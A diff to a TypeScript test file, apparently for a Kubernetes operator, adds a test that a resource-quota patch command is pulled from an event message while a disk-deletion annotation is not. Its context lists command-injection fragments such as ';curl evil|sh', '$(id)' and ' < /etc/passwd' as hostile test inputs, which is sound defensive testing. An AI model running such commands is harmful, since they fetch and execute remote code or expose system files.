@@ -27,6 +27,7 @@ const VALID = [
   'kubectl -n lab-1 delete secret a && kubectl -n lab-1 create secret generic a --from-literal=b=VALUE',
   `kubectl -n lab-1 patch secret a -p '{"stringData":{"b":"VALUE"}}'`,
   'kubectl -n lab-1 edit vmdi kali',
+  `kubectl -n lab-1 patch resourcequota a --type merge -p '{"spec":{"hard":{"requests.storage":"26Gi"}}}'`,
 ]
 const BITES = [
   ...[';curl evil|sh', ' && curl evil', ' | sh', ' > ~/.bashrc', '$(id)', '`id`', ' & id', ' < /etc/passwd'],
@@ -45,7 +46,7 @@ const hostile = fc
 
 /** The parts that are no words: all that is left of what the operator writes itself. */
 const OWN_WORDS =
-  /"\$\(date\)"|-p '\{"stringData":\{[^']*\}\}'|-p "\$\(kubectl create secret generic [-\w. =]* --dry-run=client -o json\)"| && (?=kubectl -n )/g
+  /"\$\(date\)"|-p '\{"spec":\{"hard":\{[^']*\}\}\}'|-p '\{"stringData":\{[^']*\}\}'|-p "\$\(kubectl create secret generic [-\w. =]* --dry-run=client -o json\)"| && (?=kubectl -n )/g
 
 describe('commands in messages', () => {
   it('hold nothing that a shell obeys, whatever a message says', () => {
@@ -83,6 +84,16 @@ describe('commands in messages', () => {
   it('are none of what a message quotes', () => {
     const message = 'KubeVirt says "x; kubectl -n lab-1 delete pvc data"; wait'
     expect(toldCommands({ about: { kind: 'VirtualMachine', group: OURS }, reason: 'DiskKept', message })).toEqual([])
+  })
+
+  it('raise a quota, and do not give a disk up', () => {
+    const raise = `kubectl -n lab-1 patch resourcequota small --type merge -p '{"spec":{"hard":{"requests.storage":"26Gi","fast.storageclass.storage.k8s.io/persistentvolumeclaims":"2"}}}'`
+    const word =
+      'kubectl -n lab-1 annotate --overwrite virtualmachines.pelotech.ot web pelotech.ot/delete-disk-first=0f'
+    const message = `it lacks 6Gi of requests.storage (10Gi needed, and of 20Gi are 16Gi used); to make room: ${raise}; the new disk is then made by itself; with all that is on it: ${word}`
+    expect(
+      toldCommands({ about: { kind: 'VirtualMachine', group: OURS }, reason: 'ReplacementBlocked', message }),
+    ).toEqual([raise])
   })
 
   it('are those that the operator writes for Secrets', () => {
